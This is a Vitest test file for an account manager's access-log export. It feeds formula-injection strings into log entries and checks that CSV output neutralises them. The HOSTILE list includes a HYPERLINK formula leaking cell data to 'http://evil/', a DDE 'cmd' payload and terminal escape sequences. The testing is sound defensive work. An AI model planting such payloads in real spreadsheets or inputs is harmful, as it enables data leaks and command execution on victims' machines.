import { execFileSync, spawn } from 'node:child_process';
import { expect, it, onTestFinished } from 'vitest';
import { appendEntries } from '../../src/access-log/writing/append.js';
import { newEntry, type AccessLogEntry } from '../../src/access-log/entry.js';
import { systemHost } from '../../src/system/host.js';
import { running } from '../io/processes/bundled.js';
import { builtProgram } from '../support/built-program.js';
import { lacksPeers } from '../support/peers.js';
import { loginEnvironment } from '../support/spawned-program.js';
import { temporaryHome } from '../support/temporary-home.js';

const host = systemHost();
const LOG = '.local/state/acctmgr/access_log.jsonl';
const HOSTILE = [
  '=HYPERLINK("http://evil/?x="&A1,"click")',
  "=cmd|' /C calc'!A0",
  '@SUM(1,1)',
  '+1;-1; =1',
  'a "quoted" word, and a comma',
  "it's",
  'ünï©ödé 日本語',
  '\u001b]0;title\u0007\u001b[31mred\u202e',
  'two\r\nlines',
  ', , ,',
];

const READ = String.raw`
import csv, io, json, sys
both = json.load(sys.stdin)
rows = list(csv.DictReader(io.StringIO(both['csv'], newline='')))
json.dump([{key: value for key, value in row.items() if value != ''} for row in rows], sys.stdout)
`;

async function openLog(reasons: readonly string[]) {
  const home = temporaryHome();
  const entries = reasons.map((reason): AccessLogEntry =>
    newEntry(host, '0.1.0', { event: 'assume', account: 'dev', reason }),
  );
  for (const entry of entries) await appendEntries(home.at(LOG), [entry], host, { max_size: 1000 });
  const acctmgr = (...words: readonly string[]) =>
    execFileSync(process.execPath, [builtProgram, ...words], {
      env: loginEnvironment(home.folder),
      encoding: 'utf8',
      timeout: 20_000,
    });
  return { home, acctmgr };
}

it.skipIf(lacksPeers('Python'))(
  "what is exported is what Python's own readers find, and no formula",
  async () => {
    const { acctmgr } = await openLog(HOSTILE);
    const csv = acctmgr('log', 'export', '--format', 'csv');
    const rows = JSON.parse(
      execFileSync('python3', ['-c', READ], { input: JSON.stringify({ csv }), encoding: 'utf8' }),
    ) as Record<string, string>[];
    const entries = JSON.parse(acctmgr('log', 'export', '--format', 'json')) as Record<string, unknown>[];

    const plain = (text: unknown) => String(text).replaceAll("'", '');
    expect(
      rows.map((row) => Object.fromEntries(Object.entries(row).map(([key, text]) => [key, plain(text)]))),
    ).toEqual(
      entries.map((entry) =>
        Object.fromEntries(Object.entries(entry).map(([key, value]) => [key, plain(value)])),
      ),
    );
    expect(rows.filter(({ event }) => event === 'assume')).toHaveLength(HOSTILE.length);
    for (const cell of rows.flatMap((row) => Object.values(row))) expect(cell).not.toMatch(/^\s*[=+\-@]/);
  },
);

it('ends without a word when nobody reads any more', async () => {
  const home = temporaryHome();
  const line = JSON.stringify({ time: '2026-03-01T12:00:00.000Z', event: 'assume', reason: 'x'.repeat(200) });
  home.write(LOG, `${line}\n`.repeat(5000));
  for (const format of ['json', 'csv']) {
    const child = spawn(process.execPath, [builtProgram, 'log', 'export', '--format', format], {
      env: loginEnvironment(home.folder),
      stdio: 'pipe',
      timeout: 20_000,
      killSignal: 'SIGKILL',
    });
    onTestFinished(() => void child.kill('SIGKILL'));
    const program = running(child);
    await program.answer();
    child.stdout.destroy();
    expect(await program.end()).toEqual({ code: 0, signal: null, stderr: '' });
  }
});
